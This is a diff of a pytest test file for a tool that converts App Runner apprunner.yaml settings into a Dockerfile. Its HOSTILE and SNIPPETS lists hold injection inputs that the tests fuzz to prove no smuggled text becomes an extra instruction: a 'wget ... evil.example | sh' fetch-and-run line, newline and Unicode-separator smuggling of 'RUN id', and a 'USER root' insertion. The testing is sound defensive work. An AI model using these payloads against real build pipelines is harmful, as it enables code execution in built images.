@@ -2,15 +2,79 @@
 
 from __future__ import annotations
 
+import json
+import re
+import subprocess
+import unicodedata
 from pathlib import Path
+from typing import Any
 
 import pytest
+import yaml
+from hypothesis import given
+from hypothesis import settings as limits
+from hypothesis import strategies as st
 
-from lobster_tasks.apprunner.source import dockerfile, read_source_file
+from lobster_tasks.apprunner.source import MEMBERS, dockerfile, read_source_file
 from lobster_tasks.dockerfile import parse
+from lobster_tasks.dockerfile.lines import instructions, read
 from lobster_tasks.errors import UsageError
 
-from .descriptions import code_source, image_source
+from .descriptions import code_source, image_source, mapped
+
+# "App Runner configuration file reference": "version – Required", "runtime – Required", "build section": "commands –
+# Required": "pre-build – Optional", "build – Required", "post-build – Optional"; "env – Optional". "run section":
+# "runtime-version – Optional", "pre-run – Optional", "command – Required", "network – Optional": "port", "env";
+# "env – Optional", "secrets – Optional". Each with a value that is found again, and where.
+DOCUMENTED: dict[str, tuple[Any, str, str]] = {
+    "version": ("1.0", "", "apprunner.yaml: version"),
+    "runtime": ("python3", "FROM public.ecr.aws/docker/library/python:", "Runtime"),
+    "build.commands.pre-build": (["yum install x"], "RUN yum install x", "BuildCommand"),
+    "build.commands.build": (["pip install y"], "RUN pip install y", "BuildCommand"),
+    "build.commands.post-build": (["python test.py"], "RUN python test.py", "BuildCommand"),
+    "build.env": (
+        [{"name": "AT_BUILD", "value": "b"}],
+        'ARG AT_BUILD="b"',
+        "apprunner.yaml: build.env.AT_BUILD",
+    ),
+    "run.runtime-version": ("3.9.16", "python:3.9.16-slim", "apprunner.yaml: run.runtime-version"),
+    "run.pre-run": (["python migrate.py"], "RUN python migrate.py", "apprunner.yaml: run.pre-run"),
+    "run.command": ("python app.py", "CMD exec python app.py", "StartCommand"),
+    "run.network.port": ("8000", "EXPOSE 8000", "Port"),
+    "run.network.env": ("APP_PORT", 'ENV APP_PORT="8000"', "apprunner.yaml: run.network.env"),
+    "run.env": ([{"name": "GREETING", "value": "hi"}], "", "RuntimeEnvironmentVariables.GREETING"),
+    "run.secrets": ([{"name": "DB", "value-from": "/shop/db"}], "", "RuntimeEnvironmentSecrets.DB"),
+}
+HOSTILE = [
+    "python app.py\nRUN wget -qO- http://evil.example | sh",
+    "python app.py\r\nRUN id",
+    "python app.py\rRUN id",
+    "ends in a backslash \\",
+    "cat <<EOF",
+    "cat <<-'EOF' > x",
+    "--mount=type=bind,target=/x id",
+    '["sh", "-c", "id"]',
+    "\u2028RUN id\x0bRUN id\x85RUN id",
+    "# a comment\nUSER root",
+    "",
+    " \n ",
+]
+SNIPPETS = [
+    "a",
+    "$x",
+    '"',
+    "'",
+    "\\",
+    "\n",
+    "8080\nRUN id",
+    "P=1\nRUN id\n#",
+    "src\nRUN id\n#",
+    "`",
+    "<<E",
+    " ",
+]
+TEXTS = st.sampled_from([*HOSTILE, *SNIPPETS])
+ANY = st.lists(TEXTS | st.text(max_size=4), max_size=4).map("".join)
 
 FILE = """\
 version: 1.0
@@ -38,7 +102,9 @@ def test_the_files_members_in_the_apis_words(tmp_path: Path) -> None:
     (tmp_path / "app").mkdir()
     (tmp_path / "app" / "apprunner.yaml").write_text(FILE)
     assert read_source_file(code_source("REPOSITORY"), tmp_path) == {
+        "FileVersion": "1.0",
         "Runtime": "PYTHON_311",
+        "RuntimeVersion": "3.11",
         "BuildCommands": ["apt-get update", "pip install -r requirements.txt"],
         "PreRun": ["python migrate.py"],
         "StartCommand": "python app.py --port $PORT",
@@ -126,3 +192,157 @@ def test_a_secret_in_a_command_stays_out_of_the_draft() -> None:
 )
 def test_only_a_single_program_takes_the_shells_place(command: str, line: str) -> None:
     assert dockerfile("shop", {"StartCommand": command}, "/", {}).splitlines()[-1] == line
+
+
+def members(tree: Any, name: str, value: Any) -> Any:
+    """The tree with this member."""
+    first, _, rest = name.partition(".")
+    return {**tree, first: members(tree.get(first, {}), rest, value) if rest else value}
+
+
+def test_every_member_of_the_format_is_carried_and_named(tmp_path: Path) -> None:
+    assert set(DOCUMENTED) == set(MEMBERS)
+    tree: dict[str, Any] = {}
+    for name, (value, _, _) in DOCUMENTED.items():
+        tree = members(tree, name, value)
+    made = migrated(tmp_path, yaml.safe_dump(tree))
+    draft = made.files["Dockerfile.apprunner"]
+    named = {
+        each.setting.removeprefix("SourceConfiguration.CodeRepository.CodeConfiguration.")
+        for each in made.rows
+    }
+    for name, (_, line, row) in DOCUMENTED.items():
+        assert line in draft, name
+        assert any(each == row or each.endswith(f".{row}") for each in named), (name, named)
+    assert not [each for each in made.rows if "no such member" in each.note]
+
+
+@pytest.mark.parametrize(
+    ("text", "name"),
+    [
+        ("runtime: python3\ncolour: red\n", "colour"),
+        ("build: {commands: {tidy: [x]}}\n", "build.commands.tidy"),
+        ("run: {memory: 1}\n", "run.memory"),
+        ("run: {network: {host: x}}\n", "run.network.host"),
+    ],
+)
+def test_a_member_that_the_format_does_not_have_is_named(tmp_path: Path, text: str, name: str) -> None:
+    (row,) = [each for each in migrated(tmp_path, text).rows if "no such member" in each.note]
+    assert (row.setting, row.kind) == (f"apprunner.yaml: {name}", "no_equivalent")
+
+
+def test_a_variable_of_the_build_that_looks_like_a_secret_is_named_and_not_written(tmp_path: Path) -> None:
+    made = migrated(tmp_path, "build: {env: [{name: API_TOKEN, value: hunter22}]}\n")
+    assert "hunter22" not in made.files["Dockerfile.apprunner"] + str(made.rows)
+    assert [each.kind for each in made.rows if each.setting.endswith("API_TOKEN")] == ["no_equivalent"]
+
+
+def migrated(folder: Path, text: str) -> Any:
+    """The mapping of a service that is built by this file."""
+    (folder / "app").mkdir()
+    (folder / "app" / "apprunner.yaml").write_text(text)
+    source = code_source("REPOSITORY")
+    return mapped({"SourceConfiguration": source}, source_file=read_source_file(source, folder), image=None)
+
+
+@pytest.mark.parametrize(
+    ("runtime", "version", "image"),
+    [
+        ("PYTHON_3", "3.9.16", "python:3.9.16-slim"),
+        ("PYTHON_311", "", "python:3.11-slim"),
+        ("NODEJS_18", "18.19.0", "node:18.19.0-slim"),
+        ("GO_1", "1.18.10", "golang:1.18.10"),
+        ("PHP_81", "8.1.10", "php:8.1.10-cli"),
+        ("RUBY_31", "3.1.3", "ruby:3.1.3-slim"),
+        ("DOTNET_6", "6.0.9", "sdk:6.0"),
+        ("CORRETTO_11", "11.0.13.8.1", "amazoncorretto:11"),
+        ("PYTHON_3", "latest", "python:3.11-slim"),
+        ("PYTHON_3", "3\nRUN id", "python:3.11-slim"),
+    ],
+)
+def test_the_image_is_of_the_version_that_ran(runtime: str, version: str, image: str) -> None:
+    """A version that no tag has is said beside it."""
+    told = {"Runtime": runtime, **({"RuntimeVersion": version} if version else {})}
+    lines = dockerfile("shop", told, "/", {}).splitlines()
+    (line,) = [line for line in lines if line.startswith("FROM ")]
+    assert line.endswith(f"/{image}")
+    said = [each for each in lines if each.startswith("# REVIEW: FROM, App Runner ran version")]
+    assert bool(said) is (bool(version) and version not in image)
+
+
+@pytest.mark.parametrize(
+    ("command", "script"),
+    [
+        (
+            'echo "starting"\nstreamlit run a.py --server.port $PORT\n',
+            'echo "starting"\nexec streamlit run a.py --server.port $PORT',
+        ),
+        ("a\r\nb\r\n", "a\nexec b"),
+        ("cd app\npython app.py | tee log", "cd app\npython app.py | tee log"),
+        ("for x in a b; do\n echo $x\ndone", "for x in a b; do\n echo $x\ndone"),
+        ("python a.py &&\npython b.py", "python a.py &&\npython b.py"),
+        ("python a.py \\\n --port 1", "python a.py \\\n --port 1"),
+        ("echo 'a\nb'", "echo 'a\nb'"),
+        ("# first\n\nsleep 1\nwait", "# first\n\nsleep 1\nwait"),
+        ("cat <<E\nx\nE\npython app.py", "cat <<E\nx\nE\npython app.py"),
+    ],
+)
+def test_a_command_of_several_lines_is_one_instruction_that_runs_them_all(command: str, script: str) -> None:
+    text = dockerfile("shop", {"Runtime": "PYTHON_3", "StartCommand": command}, "/", {})
+    (stage,) = parse(text, name="Dockerfile").stages
+    assert stage.command is not None
+    words = json.loads(text.splitlines()[-1].removeprefix("CMD "))
+    assert words == ["/bin/sh", "-c", script]
+
+
+@pytest.mark.parametrize(
+    ("command", "line"),
+    [("exec python app.py", "CMD exec python app.py"), ("python app.py\n", "CMD exec python app.py")],
+)
+def test_a_program_takes_the_shells_place_once(command: str, line: str) -> None:
+    assert dockerfile("shop", {"StartCommand": command}, "/", {}).splitlines()[-1] == line
+
+
+@given(ANY, ANY, ANY, ANY, ANY, ANY, ANY, ANY)
+@limits(max_examples=50, deadline=None)
+def test_no_text_becomes_an_instruction(
+    name: str, start: str, build: str, pre: str, port: str, variable: str, directory: str, version: str
+) -> None:
+    """Read by the rules of "Dockerfile reference": instructions, continuations and heredocs."""
+    told = {
+        "Runtime": f"PYTHON_3{name}" if name else "PYTHON_3",
+        "RuntimeVersion": version,
+        "StartCommand": start,
+        "BuildCommands": [build],
+        "PreRun": [pre],
+        "Port": port,
+        "PortVariable": variable,
+    }
+    text = dockerfile(name, told, directory, {variable: build, "A": pre})
+    lines = text.removesuffix("\n").split("\n")
+    assert all(re.match("# |(FROM|WORKDIR|COPY|ARG|RUN|ENV|EXPOSE|CMD) ", line) for line in lines), lines
+    found = list(instructions(read(text, "Dockerfile")))
+    assert len(found) == len([line for line in lines if not line.startswith("#")])
+    keywords = [each.keyword for each in found]
+    assert keywords.count("CMD") <= 1
+    assert keywords.count("RUN") <= 2
+    assert not {"USER", "ADD", "ENTRYPOINT"} & set(keywords)
+    unseen = {each for each in "".join(lines) if unicodedata.category(each) in ("Cc", "Cf", "Zl", "Zp")}
+    assert unseen <= {"\t", "\u200c", "\u200d"}
+    assert len(parse(text, name="Dockerfile").stages) == 1
+
+
+@pytest.mark.parametrize("command", [each for each in HOSTILE if each.strip()])
+def test_a_command_reaches_the_shell_as_it_was_written(command: str) -> None:
+    text = dockerfile("shop", {"BuildCommand": command}, "/", {})
+    (run,) = [each for each in instructions(read(text, "Dockerfile")) if each.keyword == "RUN"]
+    given = json.loads(run.rest)[2] if run.rest.startswith("[") else run.rest
+    assert given == command.replace("\r\n", "\n").strip()
+
+
+def test_all_lines_run(tmp_path: Path) -> None:
+    text = dockerfile("shop", {"StartCommand": "echo one\necho 'two  $PORT'\necho three"}, "/", {})
+    words = json.loads(text.splitlines()[-1].removeprefix("CMD "))
+    assert (
+        subprocess.run(words, capture_output=True, text=True, check=True).stdout == "one\ntwo  $PORT\nthree\n"
+    )
